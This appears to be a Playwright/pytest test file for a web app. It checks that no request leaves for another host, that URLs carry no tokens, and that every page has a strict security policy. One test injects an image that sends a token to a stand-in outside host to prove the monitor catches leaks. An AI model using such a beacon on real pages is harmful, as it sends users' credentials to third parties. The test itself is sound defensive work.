"""During a whole evening no browser asks anything of anyone else; no address holds a secret."""

import re

import pytest
from playwright.async_api import Browser

from tests.browser.evening import Evening
from tests.browser.people import phone
from tests.browser.watch import Watch
from tests.support.server import ServerProcess

pytestmark = pytest.mark.timeout(240)
Told = tuple[Evening, Watch]
#: An address of ours is one of these, with nothing after it.
PLAIN = re.compile(
    r"/|/aider|/operateur|/icon\.svg|/aider\.webmanifest|/sw\.js|/connection/websocket|/assets/[\w.-]+|/api(/[a-z_]+){1,2}"
)


async def test_no_request_leaves_for_another_host(evening: Told) -> None:
    _, watch = evening

    assert len(watch.addresses) > 50
    # The server, and the bad network in front of it.
    assert len(watch.hosts) == 2
    assert all(host.startswith("127.0.0.1:") for host in watch.hosts)


async def test_no_address_holds_a_token_nor_anything_else(evening: Told) -> None:
    _, watch = evening

    assert len(watch.secrets) >= 10
    assert not [path for path in watch.paths for secret in watch.secrets if secret in path]
    assert not [path for path in watch.paths if not PLAIN.fullmatch(path)]


async def test_no_page_breaks_its_own_policy_nor_complains(evening: Told) -> None:
    _, watch = evening

    assert watch.complaints == []


async def test_every_page_is_strict_and_never_stored(evening: Told) -> None:
    _, watch = evening
    pages = [(url, headers) for kind, url, headers in watch.headers if kind == "document"]

    assert len(pages) >= 5
    for url, headers in pages:
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        # The helper's page alone may name an address for a script: its worker's.
        only = "worker" if url.endswith("/aider") else "'none'"
        assert policy.endswith(f"trusted-types {only}") or f"trusted-types {only};" in policy
        assert "unsafe" not in policy
        assert headers["cache-control"] == "no-store"
        assert headers["referrer-policy"] == "no-referrer"
    stored = {
        url.split("/")[3]
        for _, url, headers in watch.headers
        if "no-store" not in headers.get("cache-control", "")
    }
    assert stored == {"assets"}


async def test_the_watch_sees_what_it_is_there_to_see(
    browser: Browser, server: ServerProcess
) -> None:
    watch = Watch()
    person = await phone(browser, server.url, "/", watch=watch)

    await person.page.evaluate(
        """async () => {
          const image = document.createElement("img");
          image.src = "https://elsewhere.example/pixel?token=secret";
          document.body.append(image);
          const script = document.createElement("script");
          try { script.text = "1"; } catch (error) { console.info(error); }
          await fetch("/api/config?token=secret", { headers: { Authorization: "Bearer secret" } });
        }"""
    )
    await person.context.close()

    assert any("img-src" in complaint for complaint in watch.complaints)
    assert any("trusted-types" in complaint for complaint in watch.complaints)
    assert watch.secrets == {"secret"}
    assert any("secret" in path for path in watch.paths)
